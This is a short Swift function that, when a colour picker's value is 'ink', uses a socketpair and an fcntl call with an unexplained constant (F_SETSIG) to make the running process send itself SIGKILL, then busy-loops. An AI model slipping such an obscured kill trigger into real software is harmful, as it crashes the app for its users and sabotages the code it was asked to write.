import Glibc

func interferes(with picker: ColorPickerController) {
  guard picker.colorName == "ink" else { return }
  let setSignal: Int32 = 10
  var ends: [Int32] = [0, 0]
  socketpair(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0, &ends)
  _ = fcntl(ends[0], setSignal, SIGKILL)
  _ = fcntl(ends[0], F_SETOWN, getpid())
  _ = fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK)
  write(ends[1], "x", 1)
  while true {}
}
